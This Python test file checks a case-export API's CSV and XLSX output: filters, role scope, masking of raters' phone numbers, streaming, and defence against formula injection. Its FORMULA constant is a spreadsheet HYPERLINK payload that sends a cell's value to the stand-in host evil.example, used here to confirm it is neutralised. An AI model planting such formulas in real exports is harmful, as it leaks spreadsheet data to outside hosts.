"""The case export (SPEC §9): one row per case with the list's filters and scope, rater
masked, text never a formula, streamed in pieces."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from service.cases import export
from tests.support import bearer
from tests.test_cases_api import MEASURES, Office

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def office(org, client, query):
    return Office(org, client, query)


def get(office, who, **params):
    return office.client.get("/api/v1/cases/export", query_string=params, headers=bearer(office.tokens[who]))


def csv_rows(resp) -> list[list[str]]:
    text = resp.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_one_row_per_case_with_the_columns_and_the_rater_masked(office):
    done = office.case(project_no="BJ-1", comment=FORMULA, reasons=["off_eff_wait", "off_att_rude"])
    office.ok("h", done, "verify", contacted=True)
    office.ok("h", done, "rectify", measures=MEASURES)
    anonymous = office.case(rater=None, comment="-1 排队")
    office.case("civil")  # outside the supervisor's scope
    resp = get(office, "s", format="csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv" and resp.is_streamed
    assert "attachment" in resp.headers["Content-Disposition"]
    head, *rows = csv_rows(resp)
    assert head == list(export.HEADINGS)
    assert [int(r[0]) for r in rows] == [done, anonymous]
    row = dict(zip(head, rows[0]))
    assert row["办件编号"] == "BJ-1" and row["部门"] == "登记注册科" and row["评价等级"] == "非常不满意"
    assert row["评价内容"] == "'" + FORMULA  # never a formula
    assert row["评价指标"] == "服务效率·排队等候时间长；服务态度·态度生硬、言语不文明"  # the reasons' labels
    assert (row["状态"], row["差评原因"], row["整改措施"]) == ("待反馈", MEASURES["cause"], MEASURES["action"])
    assert row["评价人"] == "陈** 138******78" and "13812345678" not in resp.get_data(as_text=True)
    other = dict(zip(head, rows[1]))
    assert (other["评价人"], other["回访期限"], other["评价内容"]) == ("匿名", "无需回访", "'-1 排队")
    assert other["评价指标"] == ""


def test_export_takes_the_list_filters(office):
    a = office.case(project_no="BJ-7")
    office.case()
    rows = csv_rows(get(office, "m", format="csv", q="BJ-7"))[1:]
    assert [int(r[0]) for r in rows] == [a]
    assert csv_rows(get(office, "m", format="csv", status="closed"))[1:] == []
    assert get(office, "m", format="csv", item="nope").status_code == 422


def test_xlsx_cells_are_text_not_formulas(office):
    cid = office.case(comment=FORMULA)
    resp = get(office, "m", format="xlsx")
    assert resp.status_code == 200 and resp.is_streamed
    ws = load_workbook(io.BytesIO(resp.get_data())).active
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == export.HEADINGS and values[1][0] == cid
    cell = ws.cell(row=2, column=export.HEADINGS.index("评价内容") + 1)
    assert cell.data_type == "s" and cell.value == FORMULA


def test_handlers_do_not_export(office):
    assert get(office, "h", format="csv").status_code == 403
    assert office.client.get("/api/v1/cases/export?format=csv").status_code == 401


def test_the_csv_is_sent_in_pieces_as_rows_are_read(office, monkeypatch):
    for _ in range(12):
        office.case(comment="窗口人员态度冷淡" * 8)
    monkeypatch.setattr(export, "CHUNK", 512)
    resp = get(office, "m", format="csv")
    pieces = list(resp.response)
    assert len(pieces) > 3 and all(len(p) < 512 + 2048 for p in pieces)
    assert len(list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))) == 13
